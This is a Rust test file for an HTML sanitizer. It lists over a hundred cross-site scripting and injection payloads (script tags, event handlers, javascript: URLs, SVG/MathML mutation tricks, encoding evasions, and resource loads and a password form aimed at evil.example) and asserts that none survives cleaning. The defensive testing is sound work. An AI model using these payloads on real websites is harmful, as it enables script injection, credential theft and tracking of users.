//! Every kind of HTML that is known to run, load or collect something: none of it survives cleaning.

use post::safe_html;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=\"cid:a\" onload=alert(1)>",
    "<img src='cid:\"onload=alert(1)'>",
    "<img src='cid:x&quot; onerror=&quot;alert(1)'>",
    "<img srcset=\"https://evil.example/x 1x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"https://x.example\" onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a href=\"https://x.example\" ping=https://evil.example>x</a>",
    "<a href='https://x.example\" onclick=\"alert(1)'>x</a>",
    "<a name=\"getElementById\" id=\"body\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=https://evil.example>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml)\">x</div>",
    "<p class=\"hidden\" id=\"main\">x</p>",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.example/x>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password type=password></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<select><selectedcontent><img src=x onerror=alert(1)></selectedcontent></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=https://evil.example/x poster=https://evil.example/y onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<div onpointerover=alert(1)>x</div>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<xss onclick=alert(1) contenteditable>x</xss>",
    "<custom-element onmouseenter=alert(1)>x</custom-element>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><x/>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</br onmouseover=alert(1)><p>x",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<b title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</b>",
    "<td lang='\"><script>alert(1)</script>'>x</td>",
    "<bdo dir='rtl\" onclick=\"alert(1)'>x</bdo>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<del cite=javascript:alert(1) datetime=x>x</del>",
    "<ol start='1\" onclick=x'><li value=javascript:x>x</ol>",
    "<img src=cid:x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
    "<p\0 onclick=alert(1)>x</p>",
    "<\0script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<p is=x-frame slot=y part=z nonce=abc>x</p>",
    "<div itemscope itemtype=javascript:alert(1) data-hx-get=/x hx-get=/logout hx-trigger=load>x</div>",
    "<a href=\"tel:+973\" download rel=opener target=_self>x</a>",
    "<font size=7 color=red face=x>x</font>",
    "<a href=\"https://user:pass@evil.example\" style=display:block>x</a>",
];

const TAGS: &str = " a abbr b bdi bdo blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul ";
const ATTRIBUTES: &str = " href rel dir lang title alt width height data-cid colspan rowspan start ";

/// Reads cleaned HTML with a grammar so strict that nothing outside the lists gets through: says what it met, if anything.
fn stranger(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let closing = tag.strip_prefix('/');
        let tag = closing.unwrap_or(tag);
        let name_end = tag.find(|letter: char| !letter.is_ascii_alphanumeric())?;
        let (name, mut after) = tag.split_at(name_end);
        if !TAGS.contains(&format!(" {name} ")) {
            return Some(format!("element {name}"));
        }
        while let Some(attribute) = after.strip_prefix(' ') {
            let (key, value) = attribute.split_once("=\"").unwrap_or((attribute, ""));
            let (value, next) = value.split_once('"').unwrap_or((value, ""));
            if !ATTRIBUTES.contains(&format!(" {key} ")) {
                return Some(format!("attribute {key}"));
            }
            let lower = value.to_lowercase();
            if key == "href" && !["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| lower.starts_with(scheme)) {
                return Some(format!("link {value}"));
            }
            after = next;
        }
        let Some(next) = after.strip_prefix('>') else { return Some(format!("unfinished <{name}")) };
        rest = next;
    }
    None
}

#[test]
fn no_payload_survives() {
    assert!(PAYLOADS.len() >= 80);
    for payload in PAYLOADS {
        for wrapped in
            [(*payload).to_owned(), format!("<table><tr><td>{payload}"), format!("<p title=\"x\">a{payload}b</p>"), payload.repeat(3)]
        {
            let safe = safe_html(&wrapped);
            assert_eq!(stranger(safe.as_str()), None, "{wrapped}\n→ {safe}");
        }
    }
}

#[test]
fn cleaning_twice_changes_nothing_that_could_act() {
    for payload in PAYLOADS {
        let once = safe_html(payload);
        assert_eq!(stranger(safe_html(once.as_str()).as_str()), None, "{payload}");
    }
}
